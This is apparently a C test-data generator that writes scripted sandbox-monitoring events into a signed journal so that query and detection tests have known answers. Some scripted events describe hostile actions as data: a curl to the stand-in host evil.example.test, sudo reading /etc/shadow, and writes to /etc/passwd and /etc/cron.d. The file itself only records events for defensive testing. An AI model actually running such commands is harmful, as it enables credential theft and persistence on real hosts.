/*
 * sg_genevents STATE_DIR [--repeat K] [--segment-bytes B]
 *
 * Writes a scripted investigation scenario through the real journal (keystore, writer,
 * syncer, checkpoints), with every contract event type and known answers, for the
 * query and sink tests. Three sessions per round, at fixed times from
 * 2026-06-29T10:00:00Z (round r starts r hours later):
 *   s-alpha: bash -> pip installs requests 2.31.0 from pypi.org; sudo (uid 0) reads
 *            /etc/shadow; ends normal
 *   s-beta:  sh -> curl to evil.example.test (DNS and connect blocked), writes
 *            /etc/passwd, renames /tmp/a to /etc/cron.d/x, npm @scope/left-pad 1.3.0;
 *            ends oom
 *   s-gamma: python, requests 2.30.0, api.example.test, reads /etc/shadow and a path
 *            with control and invalid UTF-8 bytes; paused and ended by timeout
 * then an alert and a host-level sensor.loss. Rounds after the first name their
 * sessions s-alpha-R and so on; only one round in 1000 (and round 0) carries the
 * needles (/etc/shadow, uid 0, evil.example.test, requests 2.31.0, oom): the others use
 * ordinary values, so a large journal (bench/query) is realistic haystack.
 */
#include <errno.h>
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "journal/journal.h"
#include "journal/keystore.h"

#define T0 1782727200   /* 2026-06-29T10:00:00Z */

struct gen {
	char sid[3][32];
	bool rare;          /* this round has the needles (round 0, then 1 in 1000) */
	char qname[64], domain[64], path[64], version[32];
	long base;          /* seconds since T0 for this round */
	long step;          /* seconds into the session, advanced per event */
	int ret;
};

static struct event *ev(struct gen *g, const char *type, const char *sid, long at)
{
	struct timespec ts = { T0 + g->base + at, (long)(g->step++ % 1000) * 1000 };
	struct event *e = event_new(type, sid, sid ? EVENT_SRC_KERNEL : EVENT_SRC_SANDGATE);

	if (e)
		event_set_time(e, &ts);
	return e;
}

static void emit(struct gen *g, struct event *e)
{
	int ret = e ? event_emit(e) : -ENOMEM;

	if (g->ret == 0)
		g->ret = ret;
}

static void lifecycle(struct gen *g, const char *sid, long at)
{
	struct event *e = ev(g, "session.create", sid, at);

	if (e) {
		event_str(e, "tenant_id", "t1");
		event_str(e, "user_id", "u1");
		event_str(e, "template", "python");
		event_raw(e, "resources", "{\"memory\":1073741824,\"cpus\":1}");
		event_str(e, "actor", "orchestrator");
	}
	emit(g, e);
	e = ev(g, "session.start", sid, at);
	if (e) {
		event_str(e, "host_id", "genhost");
		event_raw(e, "limits", "{\"memory\":1073741824}");
		event_str(e, "actor", "orchestrator");
	}
	emit(g, e);
}

static void exec(struct gen *g, const char *sid, long at, int pid, int ppid, int uid,
		 const char *cmd, const char *arg)
{
	struct event *e = ev(g, "process.exec", sid, at);

	if (e) {
		event_int(e, "pid", pid);
		event_int(e, "ppid", ppid);
		event_int(e, "uid", uid);
		event_int(e, "euid", uid);
		event_str(e, "cwd", "/home/agent");
		event_str(e, "exe", cmd);
		event_str(e, "cmd", strrchr(cmd, '/') + 1);
		event_array_begin(e, "args");
		if (arg)
			event_str(e, NULL, arg);
		event_array_end(e);
		event_bool(e, "argv_complete", true);
	}
	emit(g, e);
}

static void file(struct gen *g, const char *type, const char *sid, long at, const char *path,
		 const char *new_path, int pid, int uid)
{
	struct event *e = ev(g, type, sid, at);

	if (e) {
		event_str(e, "path", path);
		if (new_path)
			event_str(e, "new_path", new_path);
		event_int(e, "pid", pid);
		event_int(e, "uid", uid);
	}
	emit(g, e);
}

static void dns(struct gen *g, const char *sid, long at, const char *qname, bool allowed,
		int pid, int uid)
{
	struct event *e = ev(g, "net.dns", sid, at);

	if (e) {
		event_str(e, "qname", qname);
		event_str(e, "qtype", "A");
		event_str(e, "rcode", allowed ? "NOERROR" : "REFUSED");
		event_array_begin(e, "answers");
		event_array_end(e);
		event_str(e, "resolver", "198.18.0.53:53");
		event_str(e, "transport", "udp");
		event_str(e, "verdict", allowed ? "allowed" : "blocked");
		event_str(e, "reason", allowed ? "allowlist" : "not_allowed");
		event_int(e, "pid", pid);
		event_int(e, "uid", uid);
	}
	emit(g, e);
}

static void endpoint(struct event *e, const char *key, const char *ip, int port)
{
	event_object_begin(e, key);
	event_str(e, "ip", ip);
	event_int(e, "port", port);
	event_object_end(e);
}

static void connect_flow(struct gen *g, const char *sid, long at, const char *ip,
			 const char *domain, bool allowed, int pid)
{
	struct event *e = ev(g, "net.connect", sid, at);

	if (e) {
		event_str(e, "proto", "tcp");
		endpoint(e, "src", "198.18.0.2", 40000 + pid);
		endpoint(e, "dst", ip, 443);
		event_str(e, "domain", domain);
		event_str(e, "sni", domain);
		event_null(e, "http_host");
		event_str(e, "verdict", allowed ? "allowed" : "blocked");
		event_str(e, "reason", allowed ? "allowlist" : "not_allowed");
		event_null(e, "rule");
		event_int(e, "pid", pid);
		event_int(e, "uid", 1000);
	}
	emit(g, e);
	if (!allowed || !(e = ev(g, "net.flow", sid, at + 1))) {
		if (allowed)
			emit(g, NULL);
		return;
	}
	event_str(e, "flow_id", "f1");
	event_str(e, "proto", "tcp");
	endpoint(e, "src", "198.18.0.2", 40000 + pid);
	endpoint(e, "dst", ip, 443);
	event_str(e, "domain", domain);
	event_str(e, "sni", domain);
	event_uint(e, "bytes_out", 1200);
	event_uint(e, "bytes_in", 48000);
	event_uint(e, "packets_out", 10);
	event_uint(e, "packets_in", 40);
	event_uint(e, "duration_ms", 800);
	event_bool(e, "final", true);
	emit(g, e);
}

static void package(struct gen *g, const char *sid, long at, const char *mgr,
		    const char *name, const char *version, int pid)
{
	struct event *e = ev(g, "package.install", sid, at);

	if (e) {
		event_str(e, "manager", mgr);
		event_str(e, "name", name);
		event_str(e, "requested_version", version);
		event_str(e, "resolved_version", version);
		event_str(e, "registry", "https://pypi.org/simple");
		event_raw(e, "hash", "{\"algo\":\"sha256\",\"value\":\"00ff\"}");
		event_bool(e, "approved_source", true);
		event_int(e, "pid", pid);
		event_int(e, "uid", 1000);
	}
	emit(g, e);
}

static void simple(struct gen *g, const char *type, const char *sid, long at,
		   const char *k1, const char *v1, const char *k2, const char *v2)
{
	struct event *e = ev(g, type, sid, at);

	if (e) {
		event_str(e, k1, v1);
		if (k2)
			event_str(e, k2, v2);
		event_str(e, "actor", sid ? "orchestrator" : "sandgate");
	}
	emit(g, e);
}

static void terminate(struct gen *g, const char *sid, long at, const char *reason)
{
	struct event *e = ev(g, "session.terminate", sid, at);

	if (e) {
		event_str(e, "reason", reason);
		event_int(e, "exit_status", strcmp(reason, "normal") ? 137 : 0);
		event_str(e, "actor", "orchestrator");
	}
	emit(g, e);
}

static void alpha(struct gen *g, const char *s)
{
	struct event *e;

	lifecycle(g, s, 0);
	exec(g, s, 1, 100, 1, 1000, "/bin/bash", NULL);
	exec(g, s, 2, 101, 100, 1000, "/usr/bin/pip", "install requests==2.31.0");
	dns(g, s, 3, "pypi.org", true, 101, 1000);
	connect_flow(g, s, 4, "198.18.1.10", "pypi.org", true, 101);
	package(g, s, 6, "pip", "requests", g->version, 101);
	file(g, "file.create", s, 7, "/home/agent/.local/lib/requests/__init__.py", NULL, 101, 1000);
	exec(g, s, 8, 102, 100, g->rare ? 0 : 1000, g->rare ? "/usr/bin/sudo" : "/bin/cat",
	     "cat /etc/shadow");
	file(g, "file.read", s, 9, g->path, NULL, 102, g->rare ? 0 : 1000);
	e = ev(g, "tool.invoke", s, 10);
	if (e) {
		event_str(e, "tool", "shell");
		event_str(e, "status", "success");
		event_str(e, "input_summary", "pip install requests");
		event_str(e, "output_summary", "ok");
		event_str(e, "call_id", "c1");
	}
	emit(g, e);
	terminate(g, s, 20, "normal");
}

static void beta(struct gen *g, const char *s)
{
	struct event *e;

	lifecycle(g, s, 60);
	exec(g, s, 61, 200, 1, 1001, "/bin/sh", NULL);
	exec(g, s, 62, 201, 200, 1001, "/usr/bin/curl", "https://evil.example.test/x");
	dns(g, s, 63, g->qname, false, 201, 1001);
	connect_flow(g, s, 64, "198.18.2.20", g->domain, false, 201);
	file(g, "file.write", s, 65, "/etc/passwd", NULL, 201, 1001);
	file(g, "file.rename", s, 66, "/tmp/a", "/etc/cron.d/x", 201, 1001);
	package(g, s, 67, "npm", "@scope/left-pad", "1.3.0", 201);
	e = ev(g, "resource.limit", s, 68);
	if (e) {
		event_str(e, "limit", "memory_oom");
		event_uint(e, "measured", 1073741824);
		event_uint(e, "configured", 1073741824);
		event_str(e, "action", "kill");
		event_int(e, "pid", 201);
	}
	emit(g, e);
	terminate(g, s, 69, g->rare ? "oom" : "normal");
}

static void gamma_(struct gen *g, const char *s)
{
	struct event *e;

	lifecycle(g, s, 120);
	exec(g, s, 121, 300, 1, 1002, "/usr/bin/python3", "agent.py");
	package(g, s, 122, "pip", "requests", "2.30.0", 300);
	dns(g, s, 123, "api.example.test", true, 300, 1002);
	file(g, "file.read", s, 124, g->path, NULL, 300, 1002);
	file(g, "file.write", s, 125, "/tmp/we\x01ird\xff\"name", NULL, 300, 1002);
	simple(g, "session.pause", s, 126, "reason", "timeout", NULL, NULL);
	terminate(g, s, 127, "timeout");
	e = ev(g, "alert", s, 128);
	if (e) {
		event_str(e, "rule", "shadow_read");
		event_str(e, "severity", "high");
		event_str(e, "summary", "a session read /etc/shadow");
		event_array_begin(e, "refs");
		event_uint(e, NULL, 1);
		event_array_end(e);
	}
	emit(g, e);
	simple(g, "sensor.loss", NULL, 129, "sensor", "fanotify", "why", "queue overflow");
}

/* The needle values in 1 round of 1000, ordinary ones in the others. */
static void needles(struct gen *g, unsigned r)
{
	g->rare = r % 1000 == 0;
	if (g->rare) {
		snprintf(g->qname, sizeof(g->qname), "%s", "Evil.Example.Test.");
		snprintf(g->domain, sizeof(g->domain), "%s", "evil.example.test");
		snprintf(g->path, sizeof(g->path), "%s", "/etc/shadow");
		snprintf(g->version, sizeof(g->version), "%s", "2.31.0");
		return;
	}
	snprintf(g->qname, sizeof(g->qname), "cdn%u.example.test", r % 500);
	snprintf(g->domain, sizeof(g->domain), "cdn%u.example.test", r % 500);
	snprintf(g->path, sizeof(g->path), "/home/agent/notes-%u.txt", r % 100);
	snprintf(g->version, sizeof(g->version), "2.%u.0", 1 + r % 30);
}

static void round_(struct gen *g, unsigned r)
{
	static const char *const names[] = { "s-alpha", "s-beta", "s-gamma" };

	for (int i = 0; i < 3; i++) {
		if (r == 0)
			snprintf(g->sid[i], sizeof(g->sid[i]), "%s", names[i]);
		else
			snprintf(g->sid[i], sizeof(g->sid[i]), "%s-%u", names[i], r);
	}
	g->base = (long)r * 3600;
	needles(g, r);
	alpha(g, g->sid[0]);
	beta(g, g->sid[1]);
	gamma_(g, g->sid[2]);
}

static int open_journal(const char *dir, uint64_t seg, struct journal **j)
{
	struct journal_settings js;
	struct note_signer *signer = NULL;
	char err[1024];
	int ret;

	journal_settings_default(&js, dir, "genhost");
	js.segment_max_bytes = seg;
	ret = keystore_open(js.state_dir, "sandgate/genhost", &signer, err, sizeof(err));
	if (ret == 0)
		ret = journal_open(j, &js, signer, err, sizeof(err));
	if (ret == 0 && (ret = journal_start(*j)) != 0)
		snprintf(err, sizeof(err), "journal_start: %s", strerror(-ret));
	if (ret)
		fprintf(stderr, "sg_genevents: %s\n", err);
	return ret;
}

int main(int argc, char **argv)
{
	static const struct option longopts[] = {
		{ "repeat", required_argument, NULL, 'r' },
		{ "segment-bytes", required_argument, NULL, 'b' },
		{ NULL, 0, NULL, 0 },
	};
	struct gen g = { .ret = 0 };
	struct journal *j = NULL;
	uint64_t seg = 64ull << 20;
	unsigned long repeat = 1;
	int c, ret;

	while ((c = getopt_long(argc, argv, "r:b:", longopts, NULL)) != -1) {
		if (c == 'r')
			repeat = strtoul(optarg, NULL, 10);
		else if (c == 'b')
			seg = strtoull(optarg, NULL, 10);
		else
			return 2;
	}
	if (argc - optind != 1) {
		fprintf(stderr, "usage: sg_genevents STATE_DIR [--repeat K] [--segment-bytes B]\n");
		return 2;
	}
	if (open_journal(argv[optind], seg, &j))
		return 1;
	event_set_sink(journal_submit, j);
	for (unsigned long r = 0; r < repeat && g.ret == 0; r++)
		round_(&g, (unsigned)r);
	event_set_sink(NULL, NULL);
	if (g.ret)
		fprintf(stderr, "sg_genevents: emit: %s\n", strerror(-g.ret));
	ret = journal_close(j);
	return ret || g.ret ? 1 : 0;
}
